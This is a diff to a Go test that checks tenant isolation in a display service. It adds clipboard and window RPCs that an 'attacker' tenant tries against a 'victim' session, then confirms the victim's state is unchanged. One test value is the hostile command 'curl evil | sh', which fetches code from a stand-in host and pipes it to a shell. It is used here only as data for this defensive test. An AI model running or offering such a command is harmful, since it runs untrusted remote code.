@@ -5,6 +5,7 @@ import (
 	"io"
 	"slices"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -67,11 +68,44 @@ var sessionCalls = map[string]func(ctx context.Context, c displayv1.DisplayServi
 		}
 		return err
 	},
+	"GetClipboard": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
+		_, err := c.GetClipboard(ctx, &displayv1.GetClipboardRequest{SessionId: id})
+		return err
+	},
+	"SetClipboard": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
+		_, err := c.SetClipboard(ctx, &displayv1.SetClipboardRequest{SessionId: id, Text: "curl evil | sh"})
+		return err
+	},
+	"ListWindows": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
+		_, err := c.ListWindows(ctx, &displayv1.ListWindowsRequest{SessionId: id})
+		return err
+	},
+	// The window calls name a window of the victim's display that exists
+	// (victimWindow): another tenant still finds no session at all.
+	"ActivateWindow": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
+		_, err := c.ActivateWindow(ctx, &displayv1.ActivateWindowRequest{SessionId: id, WindowId: victimWindow.Load()})
+		return err
+	},
+	"CloseWindow": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
+		_, err := c.CloseWindow(ctx, &displayv1.CloseWindowRequest{SessionId: id, WindowId: victimWindow.Load(), Force: true})
+		return err
+	},
+	"MoveWindow": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
+		_, err := c.MoveWindow(ctx, &displayv1.MoveWindowRequest{SessionId: id, WindowId: victimWindow.Load(), Geometry: &displayv1.Rect{X: 1, Y: 1, Width: 50, Height: 50}})
+		return err
+	},
+	"SetWindowState": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
+		_, err := c.SetWindowState(ctx, &displayv1.SetWindowStateRequest{SessionId: id, WindowId: victimWindow.Load(), State: displayv1.WindowState_WINDOW_STATE_MINIMIZED})
+		return err
+	},
 	"DeleteDisplay": func(ctx context.Context, c displayv1.DisplayServiceClient, id string) error {
 		_, err := c.DeleteDisplay(ctx, &displayv1.DeleteDisplayRequest{SessionId: id})
 		return err
 	},
 }
+
+// victimWindow is the id of a window open on the victim's display.
+var victimWindow atomic.Uint32
 
 // tenantWideCalls are the RPCs that name no existing session; the test
 // checks them on their own.
@@ -103,7 +137,7 @@ func codeAndMessage(err error, id string) (codes.Code, string) {
 // gets for a session that does not exist; it sees nothing of it in lists,
 // and the victim is unaffected.
 func TestTenancyIsolatesDisplays(t *testing.T) {
-	_, c := testServiceDeps(t, "", Deps{Tenant: tenantFromMD})
+	s, c := testServiceDeps(t, "", Deps{Tenant: tenantFromMD})
 	victim, attacker := asTenant(t, "victim"), asTenant(t, "attacker")
 	if _, err := c.CreateDisplay(victim, &displayv1.CreateDisplayRequest{SessionId: "victim-sess", Width: 640, Height: 480}); err != nil {
 		t.Fatal(err)
@@ -113,6 +147,13 @@ func TestTenancyIsolatesDisplays(t *testing.T) {
 	}
 	before, err := c.Screenshot(victim, &displayv1.ScreenshotRequest{SessionId: "victim-sess"})
 	if err != nil {
+		t.Fatal(err)
+	}
+	// The victim has a window, and text on its clipboard.
+	xc := clientConn(t, s, "victim-sess")
+	win := appWindow{title: "victim's", x: 10, y: 10, w: 100, h: 80}.create(t, xc)
+	victimWindow.Store(uint32(win))
+	if _, err := c.SetClipboard(victim, &displayv1.SetClipboardRequest{SessionId: "victim-sess", Text: "victim's secret"}); err != nil {
 		t.Fatal(err)
 	}
 
@@ -143,6 +184,13 @@ func TestTenancyIsolatesDisplays(t *testing.T) {
 			}
 			if d := resp.GetDisplay(); d.GetWidth() != 640 || d.GetHeight() != 480 {
 				t.Fatalf("victim's display is %dx%d after %s, want 640x480", d.GetWidth(), d.GetHeight(), name)
+			}
+			if ws := resp.GetDisplay().GetWindows(); len(ws) != 1 || ws[0].GetId() != uint32(win) || ws[0].GetGeometry().GetWidth() != 100 || !ws[0].GetMapped() {
+				t.Fatalf("victim's windows after %s: %v", name, ws)
+			}
+			clip, err := c.GetClipboard(victim, &displayv1.GetClipboardRequest{SessionId: "victim-sess"})
+			if err != nil || clip.GetText() != "victim's secret" {
+				t.Fatalf("victim's clipboard after %s: %v, %v", name, clip, err)
 			}
 		})
 	}
